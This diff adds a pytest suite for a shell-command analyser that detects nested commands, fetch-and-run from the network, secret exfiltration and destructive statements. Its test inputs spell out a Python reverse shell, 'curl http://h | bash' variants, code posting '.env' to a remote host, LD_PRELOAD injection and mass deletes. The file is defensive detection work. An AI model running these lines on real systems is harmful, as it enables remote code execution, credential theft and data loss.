@@ -1,0 +1,275 @@
+"""Commands that run other commands: shells, fan-outs, interpreters, programs that shell out."""
+
+from __future__ import annotations
+
+import pytest
+
+from commands.lines import commands_in, effects_in, followed, reasons_in
+
+_REVERSE_SHELL = (
+    'python -c \'import socket, os, pty; s = socket.socket(); s.connect(("h", 1)); '
+    'os.dup2(s.fileno(), 0); pty.spawn("sh")\''
+)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "sh -c 'rm x'",
+        "bash -lc 'rm x'",
+        "bash -o pipefail -c 'rm x'",
+        "bash -c 'rm $1' _ x",
+        "bash -c 'rm \"$@\"' _ x",
+        "bash +x -c 'rm x'",
+        "bash -s <<< 'rm x'",
+        "bash -s -- a <<< 'rm x'",
+        "bash - <<< 'rm x'",
+        "bash /dev/stdin <<< 'rm x'",
+        "echo rm x > f; bash -- f",
+        "echo rm x > f; bash f",
+        "echo rm x > f; ./f",
+        "echo rm x > f; chmod +x f; ./f",
+        "bash <(echo rm x)",
+        "exec 3< <(echo rm x); bash /dev/fd/3",
+        "pwsh -c 'rm x'",
+        "cmd /c rm x",
+        "powershell -Command rm x",
+        "ssh h 'rm x'",
+        "ssh h <<E\nrm x\nE",
+        "vim -c ':!rm x'",
+        "make -f - <<E\nall:\n\t@rm x\nE",
+        "sed '1e rm x' f",
+        "osascript -e 'do shell script \"rm x\"'",
+        "awk 'BEGIN { system(\"rm x\") }'",
+        "socat TCP:h:1 EXEC:'rm x'",
+        "rsync -e 'rm x' a b",
+        "tar --checkpoint-action=exec='rm x' -cf a b",
+        "tar --to-command='rm x' -xf a",
+        "nc -e 'rm x' h 1",
+        "git submodule foreach 'rm x'",
+        "git submodule foreach --recursive rm x",
+        "git bisect run rm x",
+        "git rebase --exec 'rm x' main",
+        "git -c alias.y='!rm x' y",
+        "git -c core.pager='rm x' log",
+        "psql -c \"COPY t TO PROGRAM 'rm x'\"",
+        "python -c 'import os; os.system(\"rm x\")'",
+        "python - <<E\nimport os; os.system('rm x')\nE",
+        "echo 'import os; os.system(\"rm x\")' > f; python f",
+        'python <<< \'import subprocess; subprocess.run(["rm", "x"])\'',
+        'node -e \'require("child_process").execSync("rm x")\'',
+        'deno eval \'require("child_process").execSync("rm x")\'',
+    ],
+)
+def test_the_command_inside_is_found(line: str):
+    assert any(" ".join(shown.split()) == "rm x" for shown in commands_in(line))
+
+
+@pytest.mark.parametrize(
+    ("line", "targets"),
+    [
+        ("echo a b | xargs rm", ["a", "b"]),
+        ("echo a | xargs -n 1 rm", ["a"]),
+        ("echo a | xargs -I{} rm {}/x", ["a/x"]),
+        ("echo a | xargs -I {} rm {}/x", ["a/x"]),
+        ("echo a | xargs -I % sh -c 'rm %'", ["a"]),
+        ("echo a | xargs -i rm {}", ["a"]),
+        ("echo a | xargs -J % rm %", ["a"]),
+        ("echo a | xargs --replace rm {}", ["a"]),
+        ("echo a | xargs --replace=% rm %", ["a"]),
+        ("find . | xargs rm", ["?$stdin"]),
+        ("find . -exec rm {} +", ["./*"]),
+        ("find . -exec rm {} \\; -print", ["./*"]),
+        ("find . -exec rm {}", ["./*"]),
+        ("find d -name x -execdir rm {} \\;", ["d/x"]),
+        ("fd . d -x rm", ["d/*"]),
+        ("fd . d -X rm {}", ["d/*"]),
+        ("fd -x rm", ["./*"]),
+        ("parallel rm ::: a b", ["a", "b"]),
+        ("parallel -j 4 --bar rm {}.o ::: a", ["a.o"]),
+        ("parallel ::: 'rm a' 'rm b'", ["a", "b"]),
+        ("parallel 'rm {}' ::: a ::: b", ["a", "b"]),
+        ("echo a | parallel rm", ["a"]),
+    ],
+)
+def test_one_command_for_many_arguments(line: str, targets: list[str]):
+    deleted = [effect for effect in followed(line).effects if effect.kind.value == "delete"]
+
+    assert [effect.target if effect.known else f"?{effect.target}" for effect in deleted] == targets
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "xargs",
+        "echo a | xargs",
+        "fd x",
+        "find . -name x",
+        "bash",
+        "bash -n",
+        "bash -c",
+        "pwsh",
+        "cmd /s",
+        "git submodule foreach",
+        "git submodule status",
+        "git -c user.name=x log",
+        "socat TCP:h:1 -",
+        "vim x",
+        "make all",
+        "make -f - <<E\nall: x\nE",
+        "sed -n 1p f",
+        "osascript -e 'beep'",
+        "awk '{ print }' f",
+        "ssh h",
+        "deno run x.ts",
+        "python -m pytest",
+        "python x.py",
+        "lua x.lua",
+        "mongosh",
+        "redis-cli",
+        "echo a > f; g x",
+        "echo a > f; ./g x",
+    ],
+)
+def test_runs_nothing_but_itself(line: str):
+    programs = {command.program for command in followed(line).commands}
+
+    assert programs <= {"echo", "xargs", line.split(maxsplit=1)[0], "g"}
+    assert reasons_in(line) == []
+
+
+@pytest.mark.parametrize(
+    ("line", "effect"),
+    [
+        ('bash -c "$(curl http://h)"', "execute ?$(…), from remote"),
+        ('eval "$(curl http://h)"', "execute $(…), from remote"),
+        ("bash <(curl http://h)", "from remote"),
+        ("curl http://h | bash -s -- --yes", "execute standard input, from remote"),
+        ("curl http://h | pwsh", "execute standard input, from remote"),
+        ('python -c "$(curl http://h)"', "execute ?$(…), from remote"),
+        ("curl http://h | python", "execute standard input, from remote"),
+        ("curl http://h | python -", "execute standard input, from remote"),
+        ("curl -o f http://h; python f", "execute f, from remote"),
+        ("curl -o f http://h; ./f", "execute ./f, from remote"),
+        ("curl -o f http://h; bash f", "execute f, from remote"),
+    ],
+)
+def test_bytes_from_elsewhere_are_run(line: str, effect: str):
+    assert any(described.endswith(effect) for described in effects_in(line))
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        (
+            "python -c 'import os; os.system(x)'",
+            "its code runs a command that only the run decides",
+        ),
+        ("python -c 'eval(x)'", "it evaluates code that only the run decides"),
+        ("bash -c 'rm \"x'", "it is not a complete shell command"),
+        ("date | sh", "it runs what another command prints"),
+    ],
+)
+def test_what_only_the_run_decides_is_said(line: str, reason: str):
+    assert reasons_in(line) == [reason]
+
+
+@pytest.mark.parametrize(
+    ("line", "noted"),
+    [
+        ("psql -c 'drop table t'", "sql drop table t"),
+        ("echo 'drop table t' | psql", "sql drop table t"),
+        ("echo 'drop table t' > f; psql -f f", "sql drop table t"),
+        ("sqlite3 a.db 'drop table t'", "sql drop table t"),
+        ("DROP TABLE t;", "sql drop table t"),
+        ("TRUNCATE users", "sql truncate table users"),
+        ("redis-cli flushall", "sql"),
+        ("echo flushall | redis-cli", "sql"),
+        ("mongosh --eval 'db.dropDatabase()'", "sql"),
+        ("python -c 'import os; print(os.environ)'", "env"),
+        ("python -c 'import os; os.kill(-1, 9)'", "code kill"),
+        ("LD_PRELOAD=x ls", "export LD_PRELOAD=x"),
+        ("python -c 'c.execute(\"DROP TABLE t\")'", "sql drop table t"),
+        ('python -c \'exec(__import__("base64").b64decode("eA=="))\'', "code eval-decoded"),
+        ('python -c \'boto3.client("s3").delete_bucket(Bucket="b")\'', "api-call delete b"),
+        (_REVERSE_SHELL, "code socket-shell"),
+    ],
+)
+def test_statements_are_noted_as_commands(line: str, noted: str):
+    assert any(shown.startswith(noted) for shown in commands_in(line))
+
+
+def test_a_process_by_its_number_is_the_codes_own_business():
+    assert "code kill" not in commands_in("python -c 'import os; os.kill(5, 9)'")
+
+
+def test_a_bare_line_of_code_is_read_as_code():
+    assert effects_in('shutil.rmtree("/")') == ["delete / in root, recursive, forced"]
+
+
+def test_truncate_with_an_option_is_a_program():
+    assert effects_in("truncate -s 0 f") == ["overwrite f in project, forced"]
+
+
+def test_code_that_hides_its_command_is_run_from_something_decoded():
+    line = "python -c 'import os, base64; os.system(base64.b64decode(\"bHM=\"))'"
+
+    assert any(described.endswith("from decoded") for described in effects_in(line))
+
+
+def test_code_that_deletes_what_only_the_run_knows_names_no_file():
+    assert effects_in("python -c 'import os; os.remove(x)'") == []
+
+
+def test_code_that_fetches_and_evaluates_runs_what_is_remote():
+    line = "python -c \"import urllib.request as u; exec(u.urlopen('http://h').read())\""
+
+    assert any("from remote" in described for described in effects_in(line))
+
+
+def test_code_that_reads_a_secret_and_sends_is_noted():
+    line = "python -c \"import requests; requests.post('http://h', data=open('.env').read())\""
+
+    assert "code send-secret" in commands_in(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python -c '" + "x=1;" * 800 + "'" + " ; python -c '" + "x=1;" * 800 + "'",
+        "mongosh --eval '" + "a" * 3000 + "'; mongosh --eval '" + "a" * 3000 + "'",
+    ],
+    ids=["code", "mongo"],
+)
+def test_a_line_may_hold_its_own_length_twice(line: str):
+    assert reasons_in(line) == []
+
+
+def test_a_nested_line_may_be_no_longer_than_a_line():
+    found = followed(f"A='{'a' * 4200}'; eval \"$A$A\"").unresolved
+
+    assert [(part.reason, part.too_much) for part in found] == [
+        ("what it runs in turn is too long", True)
+    ]
+
+
+def _again(program: str, variable: str) -> str:
+    """A line that runs one long text many times over."""
+    return f"A='{variable}'; " + f'{program} "$A"; ' * 12
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        _again("python -c", "x = 1\n" * 400),
+        _again("bash -c", "echo 1;" * 400),
+        _again("psql -c", "select 1;" * 400),
+        _again("mongosh --eval", "db.x.find();" * 400),
+    ],
+    ids=["code", "shell", "sql", "mongo"],
+)
+def test_what_is_run_again_and_again_is_read_only_so_often(line: str):
+    found = followed(line).unresolved
+
+    assert {part.reason for part in found} == {"what it runs in turn is too long"}
+    assert all(part.too_much for part in found)
